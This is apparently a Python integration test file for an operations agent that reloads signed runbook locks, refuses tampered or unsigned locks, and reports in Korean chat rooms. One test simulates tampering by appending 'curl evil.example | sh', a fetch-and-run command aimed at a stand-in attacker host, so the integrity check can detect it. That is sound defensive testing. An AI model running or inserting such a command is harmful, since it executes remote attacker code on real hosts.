"""The running agent picks up a new runbook lock without a restart, refuses one that does not verify, and says
why a runbook in the folder is not runnable: the real relay, the real agent, real sshd hosts."""

from __future__ import annotations

import asyncio
import json
import logging
import secrets
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from agent.catalog.signing import public_line, sign
from agent.catalog.store import Catalog
from agent.chat.i18n import Chat
from agent.reference.relay import Relay
from tests.conftest import Operator, RunningApp, agent_environ

pytestmark = pytest.mark.external_service

#: A short look-again time so the tests do not wait long for the watcher (it is a stat, not a wall-clock claim).
WATCH = 0.05


def _home(agent_home: Path, *approver_lines: str) -> Path:
    keys = ", ".join(json.dumps(line) for line in approver_lines)
    with (agent_home / "agent.toml").open("a", encoding="utf-8", newline="\n") as config:
        config.write(f"\n[catalog]\nwatch_interval = {WATCH}\napprover_keys = [{keys}]\n")
    return agent_home


def _catalog(home: Path) -> Catalog:
    return Catalog(home / "runbooks", home / "runbooks.lock")


def _add_runbook(home: Path, name: str, word: str) -> None:
    (home / "runbooks" / f"{name}.toml").write_text(
        'description = "Test: print a word"\ntargets = ["all"]\nrooms = ["ops", "web-room"]\ntimeout = 10\n',
        encoding="utf-8",
        newline="\n",
    )
    (home / "runbooks" / f"{name}.sh").write_text(f"#!/usr/bin/env bash\necho {word}\n", encoding="utf-8",
                                                  newline="\n")  # fmt: skip


def _reports(operator: Operator, kind: str, room: str = "ops") -> list[dict[str, Any]]:
    return [
        e
        for e in operator.events
        if e.get("event") == "REPORT" and e.get("room_id") == room and e["payload"].get("kind") == kind
    ]


async def _report(operator: Operator, kind: str, room: str = "ops", after: int = 0) -> dict[str, Any]:
    await operator.wait_for(lambda e: len(_reports(operator, kind, room)) > after)
    return _reports(operator, kind, room)[after]


#: The agent's rooms speak Korean: a text as the room reads it (the msgid itself until the catalog has it).
KO = Chat("ko")


def _text(event: dict[str, Any]) -> str:
    return str(event["payload"].get("text", ""))


def _stdout(answer: dict[str, Any]) -> str:
    return json.dumps(answer["payload"], ensure_ascii=False)


@pytest.fixture
async def started(agent_home: Path, relay: Relay) -> AsyncIterator[RunningApp]:
    running = RunningApp.of(_home(agent_home) / "agent.toml", agent_environ(relay))
    await asyncio.wait_for(relay.agent_connected.wait(), 10)
    yield running
    await running.stop()


async def test_a_relocked_runbook_is_announced_and_runs_without_restart_and_a_run_in_flight_keeps_its_own(
    agent_home: Path, started: RunningApp, operator: Operator
) -> None:
    name, word = f"new_{secrets.token_hex(3)}", f"word{secrets.token_hex(3)}"
    await operator.command("RUN_RUNBOOK", "r-1", runbook=name, hosts=["h1"])
    assert (await operator.finished("r-1"))["payload"]["error"]["code"] == "RUNBOOK_NOT_RUNNABLE"

    _add_runbook(agent_home, name, word)  # in the folder, not yet locked: says why
    await operator.command("RUN_RUNBOOK", "r-2", runbook=name, hosts=["h1"])
    not_locked = await operator.finished("r-2")
    assert not_locked["payload"]["error"]["code"] == "RUNBOOK_NOT_RUNNABLE"
    assert "잠금 파일에 없음" in _text(not_locked) and "그런 런북이 없" not in _text(not_locked)

    await operator.command("RUN_RUNBOOK", "r-3", runbook="state_change", hosts=["h1"], args={"seconds": 2})
    await operator.wait_for(lambda e: e.get("event") == "TASK_ACCEPTED" and e.get("task_id") == "r-3")
    script = agent_home / "runbooks" / "state_change.sh"
    script.write_text(script.read_text(encoding="utf-8").replace("changed", "relocked"), encoding="utf-8")
    _catalog(agent_home).relock()

    ops = await _report(operator, "catalog_reload")
    assert ops["payload"]["added"] == [name] and ops["payload"]["changed"] == ["state_change"]
    assert (
        name in _text(ops)
        and "state_change" in _text(ops)
        and KO._("runbooks reloaded without a restart: {changes}").split("{")[0] in _text(ops)
    )
    web = await _report(operator, "catalog_reload", room="web-room")  # that room hears of its runbook only
    assert web["payload"]["added"] == [name] and web["payload"]["changed"] == []

    in_flight = await operator.finished("r-3")  # started before the reload: the script it loaded then
    assert in_flight["payload"]["status"] == "SUCCESS"
    assert "changed" in _stdout(in_flight) and "relocked" not in _stdout(in_flight)
    assert operator.events.index(ops) < operator.events.index(in_flight)  # it was still running at the reload

    await operator.command("RUN_RUNBOOK", "r-4", runbook=name, hosts=["h1"])
    answer = await operator.finished("r-4")
    assert answer["payload"]["status"] == "SUCCESS" and word in _stdout(answer)
    await operator.command("RUN_RUNBOOK", "r-5", runbook="state_change", hosts=["h1"], args={"seconds": 0})
    assert "relocked" in _stdout(await operator.finished("r-5"))
    audit = (agent_home / "var" / "audit.jsonl").read_text(encoding="utf-8")
    assert '"catalog_reload"' in audit


async def test_a_lock_that_does_not_verify_is_not_used_and_the_operations_room_is_told_once(
    agent_home: Path, started: RunningApp, operator: Operator, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR, logger="agent.shell.runtime")
    name = f"new_{secrets.token_hex(3)}"
    _add_runbook(agent_home, name, "hello")
    catalog = _catalog(agent_home)
    lock, problems = catalog.build_lock()  # locked as reviewed…
    assert lock is not None and not problems
    script = agent_home / "runbooks" / "echo_args.sh"
    original = script.read_bytes()
    script.write_bytes(original + b"curl evil.example | sh\n")  # …then a script is tampered with
    catalog.write_lock(lock)

    refused = await _report(operator, "catalog_refused")
    assert refused["payload"]["status"] == "ERROR"
    assert {(p["runbook"], p["kind"]) for p in refused["payload"]["problems"]} == {
        ("echo_args", "modified_script")
    }
    assert "echo_args" in _text(refused) and "잠금 이후 스크립트가 바뀜" in _text(refused)
    assert "catalog reload refused" in caplog.text

    # The same lock looked at again: logged, not told again.
    assert await started.app.runtime.reload_catalog() is False
    await operator.command("RUN_RUNBOOK", "t-1", runbook=name, hosts=["h1"])
    assert (await operator.finished("t-1"))["payload"]["error"]["code"] == "RUNBOOK_NOT_RUNNABLE"
    assert len(_reports(operator, "catalog_refused")) == 1
    await operator.command("RUN_RUNBOOK", "t-2", runbook="fail_exit", hosts=["h1"], args={"code": 0})
    assert (await operator.finished("t-2"))["payload"]["status"] == "SUCCESS"  # the old catalog still serves

    script.write_bytes(original)  # put right, and the lock written again: now it is used
    catalog.write_lock(lock)
    reloaded = await _report(operator, "catalog_reload")
    assert reloaded["payload"]["added"] == [name]
    assert len(_reports(operator, "catalog_refused")) == 1


async def test_an_unsigned_lock_is_refused_with_its_reason_when_approver_keys_are_required(
    agent_home: Path, relay: Relay, operator: Operator
) -> None:
    key = Ed25519PrivateKey.generate()
    home = _home(agent_home, public_line(key.public_key(), "alice"))
    catalog = _catalog(home)
    running = RunningApp.of(home / "agent.toml", agent_environ(relay))
    try:
        await asyncio.wait_for(relay.agent_connected.wait(), 10)
        # Started with the unsigned lock: a runbook in the folder says why it does not run.
        await operator.command("RUN_RUNBOOK", "s-1", runbook="fail_exit", hosts=["h1"], args={"code": 0})
        unsigned = await operator.finished("s-1")
        assert unsigned["payload"]["error"]["code"] == "RUNBOOK_NOT_RUNNABLE"
        assert KO._("the lock is not signed") in _text(unsigned) and "그런 런북이 없" not in _text(unsigned)
        await operator.command("RUN_RUNBOOK", "s-2", runbook="no such\u200bthing", hosts=["h1"])
        assert "such\u200bthing" not in _text(await operator.finished("s-2"))  # nothing from chat echoed

        lock = catalog.read_lock()  # an approver signs it: used without a restart
        catalog.write_lock(catalog.add_signature(lock, sign(key, lock.signed_message())))
        signed = await _report(operator, "catalog_reload")
        assert "fail_exit" in signed["payload"]["added"]
        await operator.command("RUN_RUNBOOK", "s-3", runbook="fail_exit", hosts=["h1"], args={"code": 0})
        assert (await operator.finished("s-3"))["payload"]["status"] == "SUCCESS"

        name = f"new_{secrets.token_hex(3)}"
        _add_runbook(home, name, "hello")
        catalog.relock()  # a new runbook locked, but nobody signed: refused, with the reason
        refused = await _report(operator, "catalog_refused")
        assert [p["kind"] for p in refused["payload"]["problems"]] == ["signature_missing"]
        assert KO._("the lock is not signed") in _text(refused)
        await operator.command("RUN_RUNBOOK", "s-4", runbook="fail_exit", hosts=["h1"], args={"code": 0})
        assert (await operator.finished("s-4"))["payload"]["status"] == "SUCCESS"
    finally:
        await running.stop()
